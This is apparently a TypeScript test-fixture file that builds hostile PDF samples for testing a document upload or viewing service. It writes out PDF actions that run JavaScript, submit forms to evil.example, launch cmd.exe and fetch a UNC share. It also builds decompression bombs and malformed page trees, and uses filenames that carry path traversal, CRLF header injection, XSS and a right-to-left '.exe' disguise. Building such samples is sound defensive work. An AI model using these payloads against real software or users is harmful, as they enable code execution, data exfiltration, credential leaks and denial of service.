import { deflateSync } from 'node:zlib';
import { pdfBytes } from '../../files.ts';
import { disguised, file, type HostileFile, latin1, SCRIPT } from './hostile-file.ts';

const JS = '(app.alert(1);this.submitForm("https://evil.example/"))';

const actions: Record<string, string> = {
  'a script that runs when it is opened': `/OpenAction<</S/JavaScript/JS${JS}>>`,
  'a script in a stream': '/OpenAction<</S/JavaScript/JS 3 0 R>>',
  'a script by name': `/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS${JS}>>]>>>>`,
  'a script before it is closed': `/AA<</WC<</S/JavaScript/JS${JS}>>>>`,
  'a program to launch': '/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>',
  'an address that is opened': '/OpenAction<</S/URI/URI(javascript:window.hostile=1)>>',
  'a form that is sent': '/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>',
  'another document': '/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>',
  'an attached page': `/Names<</EmbeddedFiles<</Names[(a.html)<</Type/Filespec/F(a.html)/EF<</F 3 0 R>>>>]>>>>`,
  'a dynamic form': `/AcroForm<</XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">${SCRIPT}</xdp:xdp>)>>`,
};

const stream = (object: string, data: Buffer) =>
  Buffer.concat([
    latin1(`%PDF-1.7\n1 0 obj<<${object}/Length ${data.length}>>stream\n`),
    data,
    latin1('\nendstream endobj\n%%EOF'),
  ]);

const malformed: Record<string, Buffer | string> = {
  'only a beginning': '%PDF-',
  'a beginning and noise': `%PDF-1.7${'\u0000\u00ff'.repeat(5000)}`,
  'no pages': '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>',
  'pages within themselves':
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9>>endobj trailer<</Root 1 0 R>>',
  'more pages than can be':
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 99999999999999>>endobj trailer<</Root 1 0 R>>',
  'fewer pages than none':
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count -9>>endobj trailer<</Root 1 0 R>>',
  'deep brackets': `%PDF-1.7\n1 0 obj${'['.repeat(200_000)}`,
  'deep dictionaries': `%PDF-1.7\n1 0 obj${'<</A'.repeat(100_000)}`,
  'a stream that unpacks to a gigabyte': stream(
    '/Type/XRef/W[1 8 8]/Size 9/Filter/FlateDecode',
    deflateSync(Buffer.alloc(64 * 1024 * 1024)),
  ),
  'a stream packed twice': stream(
    '/Type/ObjStm/N 9/First 9/Filter[/FlateDecode/FlateDecode]',
    deflateSync(deflateSync(Buffer.alloc(64 * 1024 * 1024))),
  ),
  'tables that lead to one another':
    '%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer<</Prev 9/Root 1 0 R>>\nstartxref\n9\n%%EOF',
  'half of itself': pdfBytes(9).subarray(0, 400),
};

const names = [
  '../../../etc/passwd.pdf',
  'a"; filename="b.html',
  'a\r\nSet-Cookie: a=b.pdf',
  'hostile.pdf.html',
  `${'long'.repeat(70)}.pdf`,
  '\u202efdp.exe',
  '<img src=x onerror=alert(1)>.pdf',
  '....pdf',
];

/** Documents, at least 50. */
export const hostileDocuments: HostileFile[] = [
  ...Object.entries(actions).map(([harm, catalog]) => file(harm, pdfBytes(1, catalog))),
  ...disguised('a PDF', pdfBytes(), 'hostile.pdf'),
  ...Object.entries(malformed).map(([harm, bytes]) => file(harm, bytes)),
  ...names.map((name, index) => file(`the name ${JSON.stringify(name.slice(0, 40))}`, pdfBytes(20 + index), name)),
];
